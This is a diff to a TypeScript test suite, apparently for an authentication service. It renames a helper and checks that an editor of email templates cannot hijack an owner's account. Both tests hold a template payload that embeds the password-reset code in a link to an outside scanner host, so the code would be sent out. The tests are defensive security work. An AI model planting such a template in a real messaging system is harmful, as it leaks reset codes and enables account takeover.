@@ -33,7 +33,7 @@ const logIn = (password: string) => t.call('POST', '/muser/auth/login', { email:
 const words = (text: string) => ({ template: 'code', language: 'en', subject: 'Your code', text, sms: '{{code}} is your code' }) as const
 
 /** Asks for the owner's code, lets the scanner of their mailbox read it, and resets the password with what the other site was asked for. */
-async function takeOver(): Promise<void> {
+async function expectNoTakeover(): Promise<void> {
   const { body } = await askCode(t, 'reset', { email: owner.email })
   const mail = await mailbox.mailTo(owner.email)
   expect(mailbox.code(mail), 'the owner gets the code').toMatch(/^\d{6}$/)
@@ -47,11 +47,11 @@ async function takeOver(): Promise<void> {
 
 test('an editor of texts does not become owner through the text of a mail', async () => {
   const saved = await editor.call('PUT', '/admin/messages/texts', words(`Open http://${scanner.host}/?c={{code}} to go on.\n\n{{code}}`))
-  await takeOver()
+  await expectNoTakeover()
   expect(saved.status).toBe(422)
 })
 
 test('a text that was stored before the rule is not sent either', async () => {
   await t.database.db.insert(messageTexts).values({ ...words(`http://${scanner.host}/?c={{code}}`), changedAt: t.app.now() })
-  await takeOver()
+  await expectNoTakeover()
 })
